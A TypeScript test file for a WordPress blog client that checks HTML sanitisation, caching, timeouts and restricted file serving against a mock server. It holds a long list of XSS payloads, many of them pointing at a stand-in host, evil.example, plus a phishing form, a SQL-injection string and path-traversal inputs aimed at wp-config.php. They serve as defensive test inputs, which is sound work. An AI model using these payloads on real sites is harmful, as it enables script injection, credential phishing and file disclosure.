import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeEach, describe, expect, it } from 'vitest'
import { createWordpressBlog } from './wordpress.ts'

type Sent = { status?: number; type?: string; total?: number; body: unknown; location?: string; hang?: boolean }
let answers = new Map<string, Sent>()
let asked: string[] = []

const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  const [path = ''] = (request.url ?? '').split('?')
  const {
    status = 200,
    type = 'application/json',
    total,
    body,
    location,
    hang,
  } = answers.get(path) ?? { status: 404, body: {} }
  if (hang) return
  const text = Buffer.isBuffer(body) || typeof body === 'string' ? body : JSON.stringify(body)
  response.writeHead(status, {
    'content-type': type,
    ...(total === undefined ? {} : { 'x-wp-total': String(total) }),
    ...(location ? { location } : {}),
  })
  response.end(text)
})
await new Promise<void>((resolve) => {
  server.listen(0, '127.0.0.1', resolve)
})
const address = server.address()
const port = address && typeof address === 'object' ? (address satisfies AddressInfo).port : 0
const site = `http://127.0.0.1:${port}`
afterAll(() => {
  server.closeAllConnections()
  server.close()
})

let now = Date.UTC(2026, 10, 24)
const blogNow = () => new Date(now)
beforeEach(() => {
  answers = new Map()
  asked = []
})

const POSTS = '/wp-json/wp/v2/posts'
const QUERY = { language: 'en', page: 1, perPage: 9, order: 'desc', orderby: 'date' } as const
const post = (over: object = {}) => ({
  id: 7,
  slug: 'saturn',
  date: '2026-10-28T09:00:00',
  date_gmt: '2026-10-28T03:30:00',
  title: { rendered: 'Saturn &amp; you' },
  excerpt: { rendered: '<p>Slow.</p>' },
  content: { rendered: '<p>He is slow.</p>' },
  ...over,
})
const media = (source: string) => ({ 'wp:featuredmedia': [{ id: 9, source_url: source, alt_text: 'A <b>ring</b>' }] })

const readOne = async (over: object) => {
  answers.set(POSTS, { body: [post(over)], total: 1 })
  const { posts } = await createWordpressBlog(site, blogNow).list(QUERY)
  const [first] = posts
  if (!first) throw new Error('no post')
  return first
}

// what makes a browser run or fetch something, wherever it stands in HTML
const SCRIPTS = [
  '<script>boom()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>boom()</script>',
  '<img src=x onerror=boom()>',
  '<img src="https://evil.example/a.png">',
  '<img src="//evil.example/a.png">',
  '<img src="data:image/svg+xml,<svg onload=boom()>">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<svg onload=boom()><circle/></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=boom()>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>boom()</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:boom()">a</a>',
  '<a href=" java\nscript:boom()">a</a>',
  '<a href="vbscript:boom()">a</a>',
  '<a href="data:text/html,<script>boom()</script>">a</a>',
  '<a href="x" onclick="boom()">a</a>',
  '<a href="x" style="background:url(https://evil.example)">a</a>',
  '<p style="background:url(https://evil.example/a.png)">a</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=otp><button>Log in</button></form>',
  '<video src="https://evil.example/a.mp4" autoplay></video>',
  '<video poster="https://evil.example/a.png"></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<picture><source srcset="https://evil.example/a.webp"></picture>',
  '<input type=image src="https://evil.example/a.png">',
  '<body background="https://evil.example/a.png" onload=boom()>',
  '<table background="https://evil.example/a.png"><tr><td>1</td></tr></table>',
  '<details open ontoggle=boom()>x</details>',
  '<marquee onstart=boom()>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>"></noscript>',
  '<template><img src=x onerror=boom()></template>',
  '<!--><img src=x onerror=boom()>-->',
  '<![CDATA[<img src=x onerror=boom()>]]>',
  '<xmp><img src=x onerror=boom()></xmp>',
  '<textarea><img src=x onerror=boom()></textarea>',
  '<title><img src=x onerror=boom()></title>',
  '<p title="<img src=x onerror=boom()>">x</p>',
  '&lt;script&gt;boom()&lt;/script&gt;',
  '<img src="`><script>boom()</script>">',
  '<a href="&#106;avascript:boom()">a</a>',
  '<a href="\u0001javascript:boom()">a</a>',
  '<portal src="https://evil.example"></portal>',
  '<img src="/wp-content/uploads/../../apis/users/logout.php">',
]
const PLACES = ['title', 'excerpt', 'content', 'media'] as const

/** Tags that stay, with the attributes that stay. */
const HARMLESS =
  /^<\/?(?:h[2-4]|p|br|hr|ul|ol|li|blockquote|pre|code|figure|figcaption|a|strong|em|b|i|sup|sub|table|thead|tbody|tr|th|td)(?: (?:href|rel|start|colspan|rowspan)="[^"<>]*")*(?: \/)?>$/

const expectHarmless = (html: string) => {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    expect(tag).toMatch(HARMLESS)
    expect(tag).not.toMatch(/(?:java|vb)\s*script:|data:/i)
  }
}

describe('a hostile blog', () => {
  it.each(SCRIPTS.flatMap((payload) => PLACES.map((place) => [place, payload] as const)))(
    '%s: %s',
    async (place, payload) => {
      const over =
        place === 'media'
          ? { _embedded: { 'wp:featuredmedia': [{ id: 9, source_url: payload, alt_text: payload }] } }
          : { [place]: { rendered: payload } }
      const read = await readOne(over)
      expect(read.media).toBeNull()
      expectHarmless(read.content)
      // no tag is left of what was one; what was written as words (`&lt;b&gt;`, the text of a title) is words, and escaped where shown
      const isTag = !/^(?:&lt;|<title>)/.test(payload)
      for (const words of [read.title, read.excerpt]) if (isTag) expect(words).not.toContain('<')
      expect(asked).toHaveLength(1)
    },
  )
})

describe('what else a hostile blog can write', () => {
  it.each(SCRIPTS)('names of categories are words: %s', async (payload) => {
    const category = { id: 4, name: payload, slug: payload, taxonomy: 'category' }
    const read = await readOne({ _embedded: { 'wp:term': [[category]] } })
    if (!/^(?:&lt;|<title>)/.test(payload)) expect(read.categories[0]?.name ?? '').not.toContain('<')
  })

  it.each(SCRIPTS)('a date that is none is no answer: %s', async (payload) => {
    for (const over of [{ date: payload }, { date_gmt: payload }]) {
      answers.set(POSTS, { body: [post(over)], total: 1 })
      await expect(createWordpressBlog(site, blogNow).list(QUERY)).rejects.toMatchObject({ fault: 'answer' })
    }
  })

  it('a slug can always stand in an address, a title in a feed', async () => {
    const read = await readOne({ slug: 'half \ud83c letter', title: { rendered: 'a\u0001b\u0000c' } })
    expect(encodeURIComponent(read.slug)).toBe('half%20%EF%BF%BD%20letter')
    expect(read.title).toBe('a b c')
  })
})

describe('posts of a WordPress site', () => {
  it('are words, cleaned HTML and pictures of the site', async () => {
    const read = await readOne({
      content: {
        rendered: `<h1>A</h1><p>b <a href="https://x.example/">c</a></p><img src="${site}/wp-content/uploads/2026/a.jpg" alt="d" onclick="x()">`,
      },
      _embedded: media(`${site}/wp-content/uploads/2026/ring.jpg`),
    })
    expect(read).toMatchObject({
      title: 'Saturn & you',
      excerpt: 'Slow.',
      at: '2026-10-28T03:30:00.000Z',
      media: { id: 9, url: '/blog-files/2026/ring.jpg', alt: 'A ring' },
      content:
        '<h2>A</h2><p>b <a href="https://x.example/" rel="noopener noreferrer nofollow">c</a></p><img src="/blog-files/2026/a.jpg" alt="d" loading="lazy" decoding="async" />',
    })
  })

  it('are asked for once in five minutes, and kept while the site is away', async () => {
    const blog = createWordpressBlog(site, blogNow)
    answers.set(POSTS, { body: [post()], total: 12 })
    expect((await Promise.all([blog.list(QUERY), blog.list(QUERY)])).map(({ total }) => total)).toEqual([12, 12])
    await blog.list(QUERY)
    expect(asked).toHaveLength(1)
    expect(asked[0]).toContain('per_page=9')
    now += 6 * 60_000
    answers.set(POSTS, { status: 502, body: 'gone' })
    expect((await blog.list(QUERY)).total).toBe(12)
    expect(asked).toHaveLength(2)
    // it is left alone for a while
    await blog.list(QUERY)
    await expect(blog.list({ ...QUERY, page: 2 })).rejects.toMatchObject({ fault: 'status' })
    expect(asked).toHaveLength(2)
    now += 31_000
    answers.set(POSTS, { body: [post()], total: 13 })
    expect((await blog.list(QUERY)).total).toBe(13)
  })

  it('of a site that refuses one question, or answers one too late, are asked for all the same', async () => {
    const blog = createWordpressBlog(site, blogNow, 300)
    answers.set(POSTS, { status: 403, body: 'a firewall: no such words' })
    await expect(blog.list({ ...QUERY, search: "' OR 1=1" })).rejects.toMatchObject({ fault: 'refused' })
    await expect(blog.list({ ...QUERY, slugs: ['<script>'] })).rejects.toMatchObject({ fault: 'refused' })
    answers.set(POSTS, { body: '', hang: true })
    await expect(blog.list({ ...QUERY, search: 'a' })).rejects.toMatchObject({ fault: 'timeout' })
    await expect(blog.list({ ...QUERY, offset: 90_000 })).rejects.toMatchObject({ fault: 'timeout' })
    answers.set(POSTS, { body: [post()], total: 1 })
    expect((await blog.list(QUERY)).total).toBe(1)
  })

  it('are kept in so much memory and no more, whatever visitors ask for', async () => {
    const blog = createWordpressBlog(site, blogNow)
    const long = { rendered: `<p>${'Slow. '.repeat(150_000)}</p>` }
    answers.set(POSTS, { body: [post({ content: long })], total: 1 })
    const list = (offset: number) => blog.list({ ...QUERY, offset })
    for (let offset = 0; offset < 6; offset++) await list(offset)
    expect(asked).toHaveLength(6)
    await list(5)
    expect(asked).toHaveLength(6)
    await list(0)
    expect(asked).toHaveLength(7)
    answers.set('/wp-content/uploads/a.png', { type: 'image/png', body: Buffer.alloc(2_900_000) })
    for (let time = 0; time < 3; time++) await blog.file('a.png')
    expect(asked).toHaveLength(8)
  })

  it.each([
    ['a site that hangs', { body: '', hang: true }, 'timeout'],
    ['an error', { status: 500, body: {} }, 'status'],
    ['no JSON', { body: '<html>' }, 'answer'],
    ['another shape', { body: [{ id: 'x' }] }, 'answer'],
    ['too much', { body: `"${'x'.repeat(3_100_000)}"` }, 'answer'],
    ['an address that leads elsewhere', { status: 302, location: 'http://127.0.0.1:1/', body: '' }, 'unreachable'],
  ])('%s is told', async (_, answer, fault) => {
    answers.set(POSTS, answer)
    await expect(createWordpressBlog(site, blogNow, 300).list(QUERY)).rejects.toMatchObject({ fault })
  })

  it('a page behind the last has no posts, a post that is none is none', async () => {
    answers.set(POSTS, { status: 400, body: { code: 'rest_post_invalid_page_number' } })
    const blog = createWordpressBlog(site, blogNow)
    expect(await blog.list({ ...QUERY, page: 99 })).toEqual({ posts: [], total: 0 })
    expect(await blog.post(5, 'en')).toBeNull()
  })

  it('its files are pictures of its folder of uploads, and nothing else', async () => {
    const blog = createWordpressBlog(site, blogNow)
    answers.set('/wp-content/uploads/2026/a.jpg', { type: 'image/jpeg', body: Buffer.from([1, 2]) })
    answers.set('/wp-content/uploads/2026/a.svg', { type: 'image/svg+xml', body: '<svg onload="x()"/>' })
    answers.set('/wp-content/uploads/2026/a.html', { type: 'text/html', body: '<script>x()</script>' })
    expect(await blog.file('2026/a.jpg')).toEqual({ body: Buffer.from([1, 2]), type: 'image/jpeg' })
    for (const path of ['2026/a.svg', '2026/a.html', '../../wp-config.php', '2026/%2e%2e/x', '2026/none.jpg'])
      expect(await blog.file(path)).toBeNull()
  })
})
